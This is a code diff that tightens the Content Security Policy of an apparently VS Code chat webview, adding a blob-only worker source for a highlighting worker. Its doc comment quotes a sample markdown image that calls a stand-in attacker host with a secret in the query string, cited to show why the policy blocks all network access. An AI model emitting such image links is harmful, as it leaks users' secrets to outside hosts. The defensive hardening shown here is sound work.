@@ -9,7 +9,8 @@ export function nonce(): string {
 
 /**
  * The chat view's page. The CSP allows only our own bundle (by nonce) and stylesheet, images
- * from our media folder and data: URIs we create, and no network at all: a model's
+ * from our media folder and data: URIs we create, a worker only from a blob the page itself
+ * makes, and no network at all: a model's
  * `![x](https://attacker/?q=secret)` cannot load. The webview's strings, localized here, ride
  * in `data-strings` (escaped: a translation is text, never markup).
  */
@@ -23,6 +24,8 @@ export function chatHtml(webview: vscode.Webview, extensionUri: vscode.Uri): str
     `style-src ${webview.cspSource}`,
     `font-src ${webview.cspSource}`,
     `img-src ${webview.cspSource}`,
+    // The highlighting worker: a blob of the page's own bundled code (see webview/highlight.ts).
+    'worker-src blob:',
     "connect-src 'none'",
     "frame-src 'none'",
     "form-action 'none'",
